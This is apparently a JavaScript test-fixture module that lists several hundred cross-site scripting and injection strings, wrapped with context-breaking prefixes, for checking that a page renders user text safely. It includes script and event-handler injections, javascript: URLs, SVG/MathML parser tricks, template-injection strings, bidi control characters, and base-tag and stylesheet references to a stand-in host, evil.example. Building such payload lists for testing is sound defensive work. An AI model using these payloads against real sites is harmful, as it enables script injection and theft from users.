/** Calls what the page must never call. */
const call = 'xss(1)'

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type="module">${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`
]
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<div onpointerover="${call}">over me</div>`,
  `<p style="animation:x 1s" onanimationstart=${call}>`
]
const drawn = [
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src onerror=${call}></style></mglyph></math>`
]
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `&#106;avascript:${call}`,
  `<a href="javascript:${call}">click</a>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `https://evil.example/"onmouseover="${call}`,
  `vbscript:msgbox(1)`
]
const templates = [
  '{{constructor.constructor("xss(1)")()}}',
  '${xss(1)}',
  '#{xss(1)}',
  '<%= xss(1) %>',
  '{{7*7}} {{name}} {{count}}',
  '$t(common:price.free) {{- name}}',
  '[[${7*7}]]',
  '__proto__',
  'constructor'
]
const odd = [
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '0',
  '%00%3Cscript%3E',
  '\\u003cscript\\u003exss(1)\\u003c/script\\u003e',
  '\u202Egnirts desrever\u202C <b>x</b>',
  '\u2066left\u2069\u200F\u200B\uFEFFzero',
  'ａｌｅｒｔ（１） ＜script＞',
  'Z\u0351\u036B\u0343a\u0346\u034Al\u0342g\u0301o\u0308',
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(8),
  '"\'`"\'`<>&;--/*//*/',
  '&lt;script&gt;xss(1)&lt;/script&gt;'
]
const marked = [
  '**bold** _thin_ `code` <b>fat</b>',
  '[click](javascript:xss(1))',
  '![x](x"onerror="xss(1))',
  '# Heading <h1>Heading</h1>',
  '</p></div></li></ol></main><h1>Outside</h1>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/x)">',
  'x'.repeat(400) + '<img src=x onerror=xss(1)>',
  '<b>'.repeat(100)
]
const bases = [...scripts, ...handlers, ...drawn, ...addresses, ...templates, ...odd, ...marked]
/** Ways out of where a text may stand: an attribute, an element of raw text, a comment. */
const exits = ['', '"> ', "'> ", '</textarea></title></style></script>', '--><!-- ']

/** 300 and more texts that do something where a page does not take them literally. */
export const payloads = exits.flatMap(exit => bases.map(base => exit + base))

/** Of at most 30 characters, as names are. */
export const hostileNames = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `"onfocus=${call} autofocus x="`,
  `<svg/onload=${call}>`,
  `</title><script>${call}`,
  '{{constructor}} $t(list.you)',
  '\u202Eesrever <b>x</b>',
  'null'
]
